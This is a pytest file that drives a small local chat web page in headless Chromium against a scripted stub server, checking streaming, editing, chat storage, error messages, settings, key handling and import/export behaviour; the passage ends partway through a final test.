"""The page in a real browser, before a server that answers as scripted."""

from __future__ import annotations

import json
import re
import shutil
import time
from collections.abc import Callable, Iterator
from dataclasses import dataclass, field
from html.parser import HTMLParser
from itertools import product
from pathlib import Path
from typing import Any

import pytest
from helpers_page import PAGE, Stub, inside, serving

TEXT = PAGE.read_text("utf-8")
SCRIPT = inside("script", TEXT)

# -- the file ------------------------------------------------------------------------------------------------------


class Tags(HTMLParser):
    """All elements of the page with their attributes."""

    def __init__(self) -> None:
        super().__init__()
        self.found: list[tuple[str, dict[str, str | None]]] = []

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        self.found.append((tag, dict(attrs)))


def tags() -> list[tuple[str, dict[str, str | None]]]:
    parser = Tags()
    parser.feed(TEXT)
    return parser.found


def test_there_is_one_script_and_one_style_sheet_both_inline() -> None:
    assert [attrs for tag, attrs in tags() if tag in ("script", "style")] == [{}, {}]
    assert len(tags()) > 100


def test_no_element_carries_a_handler_or_a_style() -> None:
    carried = {name for _, attrs in tags() for name in attrs}
    assert {name for name in carried if name.startswith("on") or name == "style"} == set()


def test_nothing_is_loaded_from_elsewhere() -> None:
    places = {
        value for _, attrs in tags() for name, value in attrs.items() if name in ("src", "href", "action", "srcset")
    }
    assert {place for place in places if not str(place).startswith(("#i-", "data:image/svg+xml,"))} == set()
    assert set(re.findall(r"https?://[^\s'\"]+", TEXT)) <= {"http://www.w3.org/2000/svg"}
    assert not re.search(r"@import|url\(", inside("style", TEXT))


@pytest.mark.parametrize(
    "way",
    ["innerHTML", "outerHTML", "insertAdjacentHTML", "document.write", "eval(", "Function(", "DOMParser", "srcdoc"],
)
def test_text_never_becomes_markup(way: str) -> None:
    assert way not in SCRIPT


def test_every_id_that_the_script_looks_up_is_in_the_markup() -> None:
    ids = [attrs["id"] for _, attrs in tags() if "id" in attrs]
    wanted = set(re.findall(r'\$\("([^"]+)"\)', SCRIPT)) | set(re.findall(r'copyOf\("([^"]+)"\)', SCRIPT))
    assert len(ids) == len(set(ids))
    assert len(wanted) > 30
    assert wanted <= set(ids)


# -- in a browser --------------------------------------------------------------------------------------------------

CHROMIUM = next(filter(None, map(shutil.which, ("chromium", "chromium-browser", "google-chrome"))), None)
SWITCHES = (
    "headless no-sandbox disable-gpu disable-quic no-first-run disable-background-networking disable-component-update "
    "disable-sync"
)
ARGUMENTS = [f"--{switch}" for switch in SWITCHES.split()]
browser_test = pytest.mark.slow


@pytest.fixture(scope="module")
def browser() -> Iterator[Any]:
    api = pytest.importorskip("playwright.sync_api")
    if CHROMIUM is None:
        pytest.skip("no chromium, chromium-browser or google-chrome on the PATH")
    with api.sync_playwright() as playwright:
        running = playwright.chromium.launch(executable_path=CHROMIUM, args=ARGUMENTS)
        yield running
        running.close()


@dataclass
class Reader:
    """Someone before the page, who also sees what goes wrong unseen."""

    page: Any
    stub: Stub
    url: str
    trouble: list[str] = field(default_factory=list)

    def watch(self) -> None:
        self.page.set_default_timeout(8000)
        self.page.on("dialog", lambda dialog: (self.trouble.append(f"dialog {dialog.message}"), dialog.dismiss()))
        self.page.on("pageerror", lambda error: self.trouble.append(f"error {error}"))
        self.page.on("console", self.listen)
        self.page.on("request", self.look)

    def listen(self, message: Any) -> None:
        refused = message.text.startswith("Failed to load resource")  # Chromium's own line about a status or connection
        if message.type in ("error", "warning") and not refused:
            self.trouble.append(f"console {message.text}")

    def look(self, request: Any) -> None:
        if not request.url.startswith((self.url, "data:image/svg+xml,", f"blob:{self.url}")):
            self.trouble.append(f"request {request.url}")

    def open(self) -> Reader:
        self.page.goto(self.url)
        self.page.locator("#about dd").first.wait_for(state="attached")
        return self

    def type(self, text: str) -> None:
        self.page.fill("#input", text)
        self.page.press("#input", "Enter")

    def ask(self, text: str) -> None:
        """Send, and wait for the end of the answer."""
        self.type(text)
        self.settle()

    def settle(self) -> None:
        self.page.wait_for_selector("#stop", state="hidden")

    def said(self) -> list[str]:
        return [str(text) for text in self.page.locator("#log .text").all_text_contents()]

    def see(self, selector: str, text: str) -> None:
        """Wait until an element says exactly this."""
        eventually(lambda: self.page.locator(selector).first.text_content() == text, f"{selector}: {text!r}")

    def act(self, action: str, which: int = -1) -> None:
        button = self.page.locator(f'#log [data-action="{action}"]:visible')
        button.nth(which if which >= 0 else button.count() + which).click()


def eventually(true: Callable[[], bool], words: str = "", seconds: float = 8.0) -> None:
    end = time.monotonic() + seconds
    while not true():
        assert time.monotonic() < end, words or "it did not happen"
        time.sleep(0.02)


@pytest.fixture
def stub() -> Stub:
    return Stub()


@pytest.fixture
def url(stub: Stub) -> Iterator[str]:
    with serving(stub) as address:
        yield address


@pytest.fixture
def context(browser: Any) -> Iterator[Any]:
    made = browser.new_context(viewport={"width": 1280, "height": 800})
    yield made
    made.close()


@pytest.fixture
def reader(context: Any, stub: Stub, url: str) -> Iterator[Reader]:
    someone = Reader(context.new_page(), stub, url)
    someone.watch()
    yield someone.open()
    assert someone.trouble == []


WORDS = "one two three four five six seven eight nine ten"


@browser_test
def test_a_message_is_sent_and_its_answer_shown(reader: Reader) -> None:
    assert reader.page.locator("#send").is_disabled()
    reader.page.fill("#input", "Hello there")
    assert reader.page.locator("#send").is_enabled()
    reader.page.click("#send")
    reader.settle()
    assert reader.said() == ["Hello there", "You said: Hello there"]
    assert reader.page.input_value("#input") == ""
    body = reader.stub.asked[0]
    assert body["messages"] == [{"role": "user", "content": "Hello there"}]
    assert {name: body[name] for name in ("temperature", "top_k", "top_p", "max_tokens", "stream")} == {
        "temperature": 0.7, "top_k": 40, "top_p": 1, "max_tokens": 256, "stream": True,
    }  # fmt: skip
    assert re.fullmatch(r"\d+/512", reader.page.locator("#meter-text").text_content())
    assert "first after" in reader.page.locator(".figures").last.text_content()


@browser_test
def test_what_the_guide_names_is_there(reader: Reader) -> None:
    page = reader.page
    assert page.locator("h1").text_content() == "gpt2chat"
    assert page.get_attribute("#input", "placeholder") == "Ask anything"
    assert page.get_by_role("button", name="New Conversation").is_visible()
    reader.stub.begin_s = 1.0
    reader.type("first")
    typing = page.locator(".typing:visible")
    typing.wait_for()
    assert typing.text_content() == "···"
    question, field = page.locator(".user .text").bounding_box(), page.locator("#log").bounding_box()
    assert question["x"] > field["x"] + field["width"] / 2
    reader.settle()
    assert page.locator(".assistant .text").bounding_box()["x"] < question["x"]
    page.fill("#input", "")
    page.keyboard.type("a")
    page.keyboard.press("Shift+Enter")
    page.keyboard.type("b")
    assert page.input_value("#input") == "a\nb"
    page.fill("#input", "line\n" * 40)
    assert page.locator("#input").bounding_box()["height"] == pytest.approx(200, abs=1)
    page.keyboard.press("Control+Shift+N")
    assert page.locator("#empty").is_visible()
    assert reader.said() == []


@browser_test
@pytest.mark.parametrize("piece", [0, 1, 2, 7])
def test_pieces_cut_anywhere_make_the_same_text(reader: Reader, piece: int) -> None:
    text = 'naïve 🙂 中文 \u202eمرحبا\u202c data: x \\n\n\n  indented\t"quoted" 👩\u200d👩\u200d👧 end'
    reader.stub.piece, reader.stub.answer = piece, lambda messages: text
    reader.ask("go")
    assert reader.said() == ["go", text]


@browser_test
@pytest.mark.parametrize("way", ["click", "Escape"])
def test_stop_ends_the_request_and_keeps_what_had_come(reader: Reader, way: str) -> None:
    reader.stub.delay_s, reader.stub.answer = 0.03, lambda messages: WORDS * 40
    reader.type("count")
    eventually(lambda: "three" in reader.said()[-1])
    if way == "click":
        reader.page.click("#stop")
    else:
        reader.page.keyboard.press("Escape")
    reader.settle()
    eventually(lambda: reader.stub.left == 1, "the server did not see that the client left")
    kept = reader.said()[-1]
    assert (WORDS * 40).startswith(kept)
    assert len(kept) > 10
    reader.see(".mark.cut", "Stopped.")
    reader.stub.delay_s, reader.stub.answer = 0, lambda messages: "fine"
    reader.ask("and now?")
    assert reader.said() == ["count", kept, "and now?", "fine"]


@browser_test
def test_an_edited_message_is_sent_again_and_what_followed_goes(reader: Reader) -> None:
    for text in ("a", "b", "c"):
        reader.ask(text)
    reader.page.locator(".user").nth(1).hover()
    reader.act("edit", 1)
    assert reader.page.input_value("#input") == "b"
    reader.ask("B")
    assert reader.said() == ["a", "You said: a", "B", "You said: B"]
    assert [m["content"] for m in reader.stub.asked[-1]["messages"]] == ["a", "You said: a", "B"]
    reader.page.click("#undo")
    assert reader.said()[2:] == ["b", "You said: b", "c", "You said: c"]


@browser_test
def test_editing_while_an_answer_is_written_stops_it(reader: Reader) -> None:
    reader.stub.delay_s, reader.stub.answer = 0.03, lambda messages: WORDS * 40
    reader.type("slow")
    eventually(lambda: "two" in reader.said()[-1])
    reader.page.keyboard.press("ArrowUp")
    reader.settle()
    assert reader.page.input_value("#input") == "slow"
    eventually(lambda: reader.stub.left == 1)
    reader.stub.delay_s, reader.stub.answer = 0, lambda messages: "done"
    reader.ask("fast")
    assert reader.said() == ["fast", "done"]


@browser_test
def test_regenerating_asks_the_same_again(reader: Reader) -> None:
    reader.ask("hello")
    reader.stub.answer = lambda messages: "another"
    reader.act("regenerate")
    reader.see(".assistant .text", "another")
    assert reader.stub.asked[0]["messages"] == reader.stub.asked[1]["messages"]
    reader.stub.refusal = (503, {"error": {"message": "Busy."}}, {"Retry-After": "7"})
    reader.act("regenerate")
    reader.see("#banner-text", "Busy. Try again in 7 s.")
    assert reader.said() == ["hello", "another"]


@browser_test
def test_a_deleted_turn_is_gone_until_undone(reader: Reader) -> None:
    for text in ("a", "b", "c"):
        reader.ask(text)
    reader.page.locator(".assistant").nth(1).hover()
    reader.page.locator('.assistant [data-action="remove"]').nth(1).click()
    assert reader.said() == ["a", "You said: a", "c", "You said: c"]
    reader.page.click("#undo")
    eventually(lambda: reader.said()[2:4] == ["b", "You said: b"])
    reader.page.locator('.assistant [data-action="remove"]').last.click()
    assert reader.page.locator("#undo").is_visible()
    reader.ask("d")
    assert reader.page.locator("#toast").is_hidden(), "taking back the older change would lose the newer turn"


@browser_test
def test_chats_are_listed_renamed_deleted_and_brought_back(reader: Reader) -> None:
    page = reader.page
    reader.ask("first chat")
    page.click("#new")
    reader.ask("second chat")
    assert page.locator("#chats .open span").all_text_contents() == ["second chat", "first chat"]
    page.click("#chats .open >> nth=1")
    assert reader.said() == ["first chat", "You said: first chat"]
    page.hover("#chats li >> nth=1")
    page.click('#chats [data-tool="rename"] >> nth=1')
    page.fill("#ask-line", "renamed")
    page.keyboard.press("Enter")
    reader.see("#chats li:nth-child(2) .open span", "renamed")
    page.hover("#chats li >> nth=1")
    page.click('#chats [data-tool="remove"] >> nth=1')
    eventually(lambda: page.locator("#chats .open").count() == 1)
    page.reload()
    assert page.locator("#chats .open span").all_text_contents() == ["second chat"]
    page.hover("#chats li")
    page.click('#chats [data-tool="remove"]')
    page.click("#undo")
    page.reload()
    assert page.locator("#chats .open span").all_text_contents() == ["second chat"]


@browser_test
def test_an_answer_goes_on_while_another_chat_is_read_and_deleted_chats_stop(reader: Reader) -> None:
    page = reader.page
    reader.ask("quiet")
    page.click("#new")
    reader.stub.delay_s, reader.stub.answer = 0.03, lambda messages: WORDS
    reader.type("busy")
    eventually(lambda: "two" in reader.said()[-1])
    page.locator("#chats .open", has_text="quiet").click()
    assert reader.said() == ["quiet", "You said: quiet"]
    assert page.locator("#stop").is_hidden()
    assert page.locator("#chats .busy").count() == 1
    eventually(lambda: page.locator("#chats .busy").count() == 0)
    page.locator("#chats .open", has_text="busy").click()
    assert reader.said() == ["busy", WORDS]
    reader.stub.answer = lambda messages: WORDS * 40
    reader.type("more")
    eventually(lambda: "two" in reader.said()[-1])
    page.hover("#chats li.current")
    page.click('#chats li.current [data-tool="remove"]')
    eventually(lambda: reader.stub.left == 1)
    assert page.locator("#chats .open").count() == 1
    page.click("#undo")
    assert reader.said()[:3] == ["busy", WORDS, "more"]


@browser_test
def test_a_reload_keeps_everything_also_in_the_middle_of_an_answer(reader: Reader) -> None:
    reader.ask("whole")
    reader.stub.delay_s, reader.stub.answer = 0.03, lambda messages: WORDS * 40
    reader.type("half")
    eventually(lambda: "five" in reader.said()[-1])
    before = reader.said()
    reader.page.reload()
    after = reader.said()
    assert after[:3] == before[:3]
    assert after[3].startswith(before[3])
    reader.see(".assistant:last-of-type .mark.cut", "Interrupted: the page was closed.")
    reader.stub.begin_s = 5
    reader.type("not yet answered")
    eventually(lambda: len(reader.stub.asked) == 3)
    reader.page.reload()
    assert reader.said()[4:] == ["not yet answered", ""]


ODD = [{"tokens": 3}, {"rate": "<b>", "first": None, "tokens": 1, "cached": 0}, {"used": "<b>x"}, "x", 5]


@pytest.mark.parametrize("figures", ODD, ids=str)
def test_what_another_program_left_in_the_store_breaks_no_chat(reader: Reader, figures: object) -> None:
    odd = {"role": "assistant", "content": "a", "figures": figures, "cut": {}, "dropped": "x", "used": "y"}
    chat = {"title": {}, "updated": "x", "system": 5, "messages": [{"role": "user", "content": "q"}, odd]}
    keep = "([text]) => {localStorage['gpt2chat.chat.aa11'] = text; sessionStorage['gpt2chat.current'] = 'aa11'}"
    reader.page.evaluate(keep, [json.dumps(chat)])
    reader.page.reload()
    eventually(lambda: reader.said()[:2] == ["q", "a"])
    reader.ask("and on it goes")


LIMITS = (
    "At least one message is required",
    "Too many messages. Maximum 500 messages allowed per request",
    "Message 0 has empty content",
    "Message 3 is too long. Maximum 8000 characters allowed per message",
    "Total conversation is too long. Maximum 32000 characters allowed",
    "Message 1 has invalid role. Must be 'user', 'assistant', or 'system'",
    "Temperature must be between 0.0 and 2.0",
    "top_k must be between 0 and 200",
    "max_tokens must be between 1 and 4096",
)


@browser_test
def test_the_banner_has_the_words_of_the_server_and_the_text_comes_back(reader: Reader) -> None:
    reader.ask("before")
    for words in LIMITS:
        reader.stub.refusal = (400, {"detail": words, "error": {"message": words}}, {})
        reader.ask("too much")
        reader.see("#banner-text", words)
        assert reader.page.get_attribute("#banner-text", "role") == "alert"
        assert reader.page.input_value("#input") == "too much"
        assert reader.said() == ["before", "You said: before"]
        reader.page.click("#banner-close")
        assert reader.page.locator("#banner").is_hidden()
    box, banner = (reader.page.locator(place) for place in ("#box", "#banner"))
    reader.ask("again")
    assert banner.bounding_box()["y"] > box.bounding_box()["y"]
    for body, shown in [({"detail": "only detail"}, "only detail"), ("", "The server answered with status 400.")]:
        reader.stub.refusal = (400, body, {})
        reader.ask("x")
        reader.see("#banner-text", shown)
    reader.stub.refusal = None
    reader.ask("after")
    assert reader.said()[-1] == "You said: after"
    assert banner.is_hidden()


@browser_test
def test_a_fault_in_the_middle_keeps_the_beginning(reader: Reader) -> None:
    reader.stub.answer, reader.stub.fault = lambda messages: WORDS, "The worker went away."
    reader.ask("go")
    reader.see("#banner-text", "The worker went away.")
    assert reader.said() == ["go", "one two three four five"]
    assert "Interrupted" in reader.page.locator(".mark.cut").text_content()
    reader.stub.fault, reader.stub.cut_after = "", 2
    reader.ask("again")
    reader.see("#banner-text", "The connection ended before the answer did.")
    assert reader.said()[-1] == "one two"


@browser_test
def test_a_server_that_is_gone_is_named_and_loses_nothing(context: Any, stub: Stub) -> None:
    with serving(stub) as url:
        someone = Reader(context.new_page(), stub, url)
        someone.watch()
        someone.open().ask("here")
    someone.type("gone?")
    someone.see("#banner-text", "The server cannot be reached. Is it still running?")
    assert someone.page.input_value("#input") == "gone?"
    assert someone.said() == ["here", "You said: here"]
    context.set_offline(True)
    someone.see("#banner-text", "This device is offline. What you have said is kept here.")
    assert someone.trouble == []


@browser_test
def test_an_empty_answer_does_not_block_the_chat(reader: Reader) -> None:
    reader.stub.answer = lambda messages: ""
    reader.ask("silence?")
    reader.see(".mark.cut", "The answer is empty.")
    reader.stub.answer = lambda messages: "words"
    reader.ask("and now?")
    assert reader.said() == ["silence?", "", "and now?", "words"]


@browser_test
def test_commands_are_no_messages_and_unknown_ones_are_said_to_be(reader: Reader) -> None:
    reader.type("/temperature 1.5")
    reader.type("/topk 7")
    reader.ask("a")
    assert reader.page.locator(".note").count() == 0

    def note(line: str) -> str:
        reader.type(line)
        return str(reader.page.locator(".note").text_content())  # the last one only

    assert "There is no command /nonsense" in note("/nonsense")
    assert note("/temperature 9") == "Temperature must be a number between 0 and 2, not 9"
    assert note("/topk 1.5") == "Top-k must be a whole number between 0 and 200, not 1.5"
    assert note("/topk") == "Top-k is 7."
    assert note("/temperature 1.5") == "Temperature is now 1.5."
    assert note("/maxtokens 513") == "Max tokens must be a whole number between 1 and 512, not 513"
    assert all(name in note("/help") for name in ("/temperature", "/topk", "/clear", "/help"))
    reader.ask("//etc is a folder")
    assert (reader.stub.asked[0]["temperature"], reader.stub.asked[0]["top_k"]) == (1.5, 7)
    assert [m["content"] for m in reader.stub.asked[1]["messages"]] == ["a", "You said: a", "/etc is a folder"]
    reader.page.locator(".assistant").first.hover()
    reader.page.locator('[data-action="regenerate"]').first.click()
    eventually(lambda: len(reader.stub.asked) == 3)
    assert [m["content"] for m in reader.stub.asked[2]["messages"]] == ["a"]
    reader.settle()
    reader.type("/clear")
    assert reader.page.locator("#empty").is_visible()
    assert len(reader.stub.asked) == 3


@browser_test
def test_settings_are_sent_and_remembered(reader: Reader) -> None:
    page = reader.page
    page.click("#settings-toggle")
    page.fill("#system", "You are a pirate.")
    page.fill("#control-temperature", "1.2")
    page.fill("#control-max_tokens", "9999999")
    page.keyboard.press("Tab")
    assert page.input_value("#control-max_tokens") == "512", "the context has no more"
    page.reload()
    reader.ask("hello")
    body = reader.stub.asked[0]
    assert (body["temperature"], body["max_tokens"], body["top_k"]) == (1.2, 512, 40)
    assert body["messages"][0] == {"role": "system", "content": "You are a pirate."}
    page.click("#settings-toggle")
    page.click("#reset")
    reader.ask("again")
    assert (reader.stub.asked[1]["temperature"], reader.stub.asked[1]["messages"][0]["role"]) == (0.7, "user")


@browser_test
def test_dropped_turns_are_told(reader: Reader) -> None:
    reader.stub.dropped = 3
    reader.ask("long ago?")
    reader.see(".dropped", "The model no longer sees the oldest 3 turns.")
    reader.stub.dropped, reader.stub.delay_s = 1, 0.2
    reader.type("and now?")
    reader.see(".assistant:last-of-type .dropped", "The model no longer sees the oldest turn.")
    assert reader.page.locator("#stop").is_visible()
    reader.settle()
    assert reader.said()[-1] == "You said: and now?"


@browser_test
def test_judgements_reach_the_server(reader: Reader) -> None:
    reader.ask("2 + 2?")
    reader.act("good")
    eventually(lambda: len(reader.stub.judged) == 1)
    reader.page.locator('[data-action="good"][aria-pressed="true"]').wait_for()
    reader.act("bad")
    reader.page.fill("#ask-area", "4")
    reader.page.click("#ask-ok")
    eventually(lambda: len(reader.stub.judged) == 2)
    asked = [{"role": "user", "content": "2 + 2?"}, {"role": "assistant", "content": "You said: 2 + 2?"}]
    assert reader.stub.judged == [
        {"messages": asked, "rating": "good"},
        {"messages": asked, "rating": "bad", "instead": "4"},
    ]
    reader.stub.feedback = False
    reader.page.reload()
    reader.page.locator("#about dd").first.wait_for(state="attached")
    eventually(lambda: reader.page.locator('[data-action="good"]:visible').count() == 0)


@browser_test
def test_the_likelihood_of_tokens_is_shown_on_demand_and_walked_by_keys(reader: Reader) -> None:
    page = reader.page
    reader.ask("why?")
    assert reader.stub.explained == []
    reader.act("why")
    page.locator(".tokens .token").first.wait_for()
    assert page.locator(".tokens .token").all_text_contents() == ["You", " said:", " why?"]
    assert "You >99.9 %, rank 1" in page.locator(".detail").text_content()
    assert page.locator(".detail .chip").count() == 5
    page.locator(".tokens .token").first.focus()
    page.keyboard.press("ArrowRight")
    assert "␣said: 41 %" in page.locator(".detail").text_content()
    assert page.evaluate("() => document.activeElement.textContent") == " said:"
    classes = [page.locator(".tokens .token").nth(n).get_attribute("class") for n in range(3)]
    assert len(set(classes)) == 3
    reader.act("why")
    assert page.locator(".why").count() == 0


@browser_test
def test_the_key_is_asked_for_and_kept_nowhere(context: Any, stub: Stub, url: str) -> None:
    stub.key = "s3cret-key"
    someone = Reader(context.new_page(), stub, url)
    someone.watch()
    page = someone.page
    page.goto(url)
    words = ("This server wants a key. Ask whoever runs it.", "This key is not accepted.")
    for key, shown in zip(("wrong", "s3cret-key"), words, strict=True):
        someone.see("#ask-text", shown)
        assert page.get_attribute("#ask-line", "type") == "password"
        page.fill("#ask-line", key)
        page.keyboard.press("Enter")
    page.locator("#about dd").first.wait_for(state="attached")
    someone.ask("hello")
    assert someone.said()[-1] == "You said: hello"
    kept = page.evaluate(
        "() => JSON.stringify([{...localStorage}, {...sessionStorage}, document.cookie, location.href])"
    )
    assert "hello" in kept
    assert "s3cret" not in kept + page.content() + json.dumps(context.storage_state())
    assert page.evaluate("() => indexedDB.databases().then((all) => all.length)") == 0
    page.reload()
    page.wait_for_selector("#ask[open]")
    page.keyboard.press("Escape")
    someone.see("#banner-text", words[0])
    for leave in ('document.getElementById("ask-cancel").click()', 'document.getElementById("ask").close()'):
        someone.type("not without a key")
        page.wait_for_selector("#ask[open]")
        page.evaluate(f"() => {leave}")
        someone.settle()
        assert page.locator(".typing:visible").count() == 0
        assert page.input_value("#input") == "not without a key"
    assert someone.trouble == []


@browser_test
def test_export_and_import_are_a_round_trip(reader: Reader, tmp_path: Path) -> None:
    page = reader.page
    page.click("#settings-toggle")
    page.fill("#system", "Be brief.")
    reader.ask("one ☃")
    page.click("#new")
    reader.ask("two\n  lines")
    with page.expect_download() as waiting:
        page.click("#export-all")
    first = tmp_path / "chats.json"
    waiting.value.save_as(first)
    rows = json.loads(first.read_text("utf-8"))
    assert rows[1]["messages"] == [
        {"role": "system", "content": "Be brief."},
        {"role": "user", "content": "one ☃"},
        {"role": "assistant", "content": "You said: one ☃"},
    ]
    page.evaluate("() => localStorage.clear()")
    page.reload()
    assert page.locator("#chats .open").count() == 0
    page.set_input_files("#file", first)
    eventually(lambda: page.locator("#chats .open").count() == 2)
    with page.expect_download() as waiting:
        page.click("#export-all")
    second = tmp_path / "again.json"
    waiting.value.save_as(second)
    assert second.read_bytes() == first.read_bytes()


@browser_test
@pytest.mark.parametrize(
    ("content", "words"),
    [
        ("{", "bad.json is not JSON:"),
        ("[]", "bad.json holds no chats."),
        ('[{"user": "a", "bot": "b"}, {"user": "a"}]', 'bad.json: pair 2: "bot" must be text, found none'),
        ('[{"question": "a"}]', 'bad.json: chat 1: expected {"messages"'),
        ('{"user": "a", "bot": "b"}\n{"user": ', "bad.json, line 2 is not JSON:"),
        ('[{"messages": [{"role": "assistant", "content": "a", "weight": 2}]}]',
         "bad.json: chat 1, message 1: the weight must be 0 or 1, found 2"),
        ('[{"messages": [{"role": "user", "content": "a"}]}, {"messages": [{"role": "tool", "content": ""}]}]',
         'bad.json: chat 2, message 1: the role must be "system", "user" or "assistant", found "tool"'),
        ('[{"messages": [{"role": "user", "content": 5}]}]',
         "bad.json: chat 1, message 1: the content must be text, found 5"),
    ],
)  # fmt: skip
def test_a_bad_import_is_explained_and_changes_nothing(
    reader: Reader, tmp_path: Path, content: str, words: str
) -> None:
    reader.ask("mine")
    (tmp_path / "bad.json").write_text(content, "utf-8")
    reader.page.set_input_files("#file", tmp_path / "bad.json")
    eventually(lambda: reader.page.locator("#banner-text").text_content().startswith(words), words)
    assert reader.page.locator("#chats .open").count() == 1
    assert reader.said()[0] == "mine"


@browser_test
def test_a_single_chat_and_bare_messages_can_be_imported(reader: Reader, tmp_path: Path) -> None:
    for number, answer in enumerate("bc", 1):
        messages = [{"role": "user", "content": "a"}, {"role": "assistant", "content": answer}]
        carry_in(reader, tmp_path / "one.json", json.dumps(messages if number == 1 else {"messages": messages}))
        reader.see("#toast-text", "One chat imported.")
        eventually(lambda wanted=number: reader.page.locator("#chats .open").count() == wanted)  # type: ignore[misc]
        assert reader.said() == ["a", answer]


def carry_in(reader: Reader, path: Path, content: str) -> None:
    """Import a file of this name and content."""
    path.write_text(content, "utf-8")
    reader.page.set_input_files("#file", path)


def carried_out(reader: Reader) -> tuple[str, list[list[dict[str, Any]]]]:
    """Export all chats: the name of the file, and the messages of each row."""
    with reader.page.expect_download() as waiting:
        reader.page.click("#export-all")
    rows = json.loads(Path(waiting.value.path()).read_text("utf-8"))
    return waiting.value.suggested_filename, [row["messages"] for row in rows]


@browser_test
def test_pairs_are_one_chat_and_lines_are_taken_too(reader: Reader, tmp_path: Path) -> None:
    pairs = [{"user": f"q{n}", "bot": f"a{n}"} for n in range(3)]
    carry_in(reader, tmp_path / "pairs.json", json.dumps(pairs))
    reader.see("#chats .open span", "pairs")
    assert reader.said() == ["q0", "a0", "q1", "a1", "q2", "a2"]
    lines = [{"messages": [{"role": "user", "content": text}]} for text in ("x", "y")]
    carry_in(reader, tmp_path / "lines.jsonl", "\n".join(json.dumps(value) for value in [*lines, *pairs[:2]]))
    reader.see("#toast-text", "3 chats imported.")
    assert set(reader.page.locator("#chats .open span").all_text_contents()) == {"x", "y", "lines", "pairs"}


@browser_test
def test_what_is_here_already_is_not_imported_again(reader: Reader, tmp_path: Path) -> None:
    reader.ask("mine")
    _, rows = carried_out(reader)
    carry_in(reader, tmp_path / "same.json", json.dumps([{"messages": row} for row in rows]))
    reader.see("#toast-text", "Nothing was added: this chat is here already.")
    assert reader.said() == ["mine", "You said: mine"]
    other = [{"role": "user", "content": "other"}, {"role": "assistant", "content": "chat"}]
    carry_in(reader, tmp_path / "more.json", json.dumps([{"messages": row} for row in [*rows, other, other]]))
    reader.see("#toast-text", "One chat imported; 2 were here already.")
    assert reader.page.locator("#chats .open").count() == 2


@browser_test
def test_unfinished_answers_are_exported_as_not_to_be_learnt(reader: Reader, tmp_path: Path) -> None:
    page, stub = reader.page, reader.stub
    assert page.locator("#export").is_disabled()
    assert page.locator("#export-all").is_disabled()
    reader.ask("whole")
    stub.reason = "length"
    reader.ask("long")
    stub.reason, stub.delay_s, stub.answer = "stop", 0.03, lambda messages: WORDS * 40
    reader.type("stopped")
    eventually(lambda: "three" in reader.said()[-1])
    page.keyboard.press("Escape")
    reader.settle()
    name, (row,) = carried_out(reader)
    assert re.fullmatch(r"gpt2chat-demo-\d{4}-\d\d-\d\d\.json", name)
    assert [message.get("weight") for message in row] == [None, None, None, 0, None, 0]
    reader.see("#toast-text", "2 answers that were cut short are marked not to be learnt.")
    page.evaluate("() => localStorage.clear()")
    page.reload()
    carry_in(reader, tmp_path / "again.json", json.dumps([{"messages": row}]))
    reader.see(".assistant:last-of-type .taught", "Marked not to be learnt.")
    assert carried_out(reader)[1] == [row]


@browser_test
def test_the_right_answer_takes_the_place_of_the_wrong_one(reader: Reader) -> None:
    page = reader.page
    reader.ask("2 + 2?")
    for right, shown in (("4", "4"), ("", "You said: 2 + 2?")):
        reader.act("bad")
        page.fill("#ask-area", right)
        page.click("#ask-ok")
        eventually(lambda: page.locator("#toast").is_visible())
        eventually(lambda wanted=shown: reader.said()[-1] == wanted)  # type: ignore[misc]
        if right:
            reader.see(".taught", "Corrected.")
            assert carried_out(reader)[1][0][1] == {"role": "assistant", "content": "4"}
            page.click("#undo")
            eventually(lambda: reader.said()[-1] == "You said: 2 + 2?")
    assert carried_out(reader)[1][0][1]["weight"] == 0
    reader.see("#toast-text", "1 answer that was judged bad is marked not to be learnt.")
    reader.act("bad")
    page.fill("#ask-area", "4")
    page.click("#ask-ok")
    eventually(lambda: reader.said()[-1] == "4")
    reader.ask("and 3 + 3?")
    assert [message["content"] for message in reader.stub.asked[-1]["messages"]] == ["2 + 2?", "4", "and 3 + 3?"]
    page.reload()
    reader.see(".taught", "Corrected.")


@browser_test
def test_the_meter_is_kept_and_says_what_it_does_not_know(reader: Reader, tmp_path: Path) -> None:
    reader.see("#meter-text", "0/512")
    reader.ask("hello")
    shown = reader.page.locator("#meter-text").text_content()
    assert int(shown.split("/")[0]) > 0
    reader.page.reload()
    reader.see("#meter-text", shown)
    carry_in(reader, tmp_path / "other.json", '[{"user": "a", "bot": "b"}]')
    for _ in range(2):
        reader.see("#meter-text", "–/512")
        reader.page.reload()
    reader.ask("hello")
    assert int(reader.page.locator("#meter-text").text_content().split("/")[0]) > 0


@browser_test
def test_an_answer_that_fills_the_context_says_so(reader: Reader) -> None:
    reader.stub.reason = "length"
    reader.ask("hello")
    reader.see(".mark.cut", "It reached the limit of tokens.")
    reader.stub.context = 5
    reader.page.reload()
    reader.see("#meter-text", "8/5")
    reader.ask("hello")
    reader.see(".assistant:last-of-type .mark.cut", "The context is full.")


@browser_test
def test_a_model_that_loads_is_waited_for(context: Any, stub: Stub, url: str) -> None:
    stub.loading = 2
    someone = Reader(context.new_page(), stub, url)
    someone.watch()
    someone.page.goto(url)
    someone.see("#loading", "The model is still loading …")
    assert someone.page.locator("#banner").is_hidden()
    someone.page.locator("#about dd").first.wait_for(state="attached")
    assert someone.page.locator("#loading").is_hidden()
    stub.loading = 1
    someone.ask("hello")
    assert someone.said() == ["hello", "You said: hello"]
    assert someone.trouble == []


@browser_test
def test_the_operator_names_the_page_and_suggests_questions(reader: Reader) -> None:
    page, stub = reader.page, reader.stub
    assert page.locator("#examples button").count() == 0
    assert page.locator("#about-model").text_content() == "Ask demo anything."
    assert "17.7 M" in page.locator("#about").text_content()
    stub.title, stub.suggestions = "Front desk", ("When are you open?", "b", "c", "d", "e")
    page.reload()
    reader.see("h1", "Front desk")
    assert page.title() == "demo · Front desk"
    assert page.locator("#examples button").all_text_contents() == ["When are you open?", "b", "c", "d"]
    page.locator("#examples button").first.click()
    reader.settle()
    assert reader.said()[0] == "When are you open?"


@browser_test
def test_what_can_be_done_with_a_message_takes_no_room_and_moves_nothing(reader: Reader) -> None:
    page = reader.page
    for text in ("a", "b", "c"):
        reader.ask(text)
    boxes = "() => [...document.querySelectorAll('#log .message')].map((e) => [e.offsetTop, e.offsetHeight])"
    before = page.evaluate(boxes)
    assert sum(before[-1]) - before[0][0] < 20 * 16, "three short exchanges"
    opacity = "(n) => getComputedStyle(document.querySelectorAll('#log .actions')[n]).opacity"
